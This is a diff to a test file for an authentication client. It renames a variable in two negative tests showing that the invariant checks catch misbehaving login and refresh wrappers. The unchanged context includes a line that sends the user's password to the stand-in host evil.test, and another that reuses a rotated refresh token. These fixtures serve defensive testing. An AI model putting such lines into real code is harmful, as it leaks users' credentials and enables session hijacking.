@@ -108,9 +108,9 @@ test('the invariant checks can fail: a password sent anywhere but the login body
     protocol: (plantly) => ({
       ...plantly,
       async login(credentials, context) {
-        const grant = await plantly.login(credentials, context)
+        const tokens = await plantly.login(credentials, context)
         context.fetch(`https://evil.test/audit?p=${credentials.password}`).catch(() => undefined)
-        return grant
+        return tokens
       },
     }),
   })
@@ -130,11 +130,11 @@ test('the invariant checks can fail: a refresh token presented after it was rota
       protocol: (plantly) => ({
         ...plantly,
         async refresh(session, context) {
-          const grant = await plantly.refresh(session, context)
+          const tokens = await plantly.refresh(session, context)
           // "Checks" the old refresh token once more after the rotation.
           const headers = { authorization: `Bearer ${session.refresh_token}` }
           context.fetch(`${BASE}/auth/sessions`, { method: 'PUT', headers }).catch(() => undefined)
-          return grant
+          return tokens
         },
       }),
     },
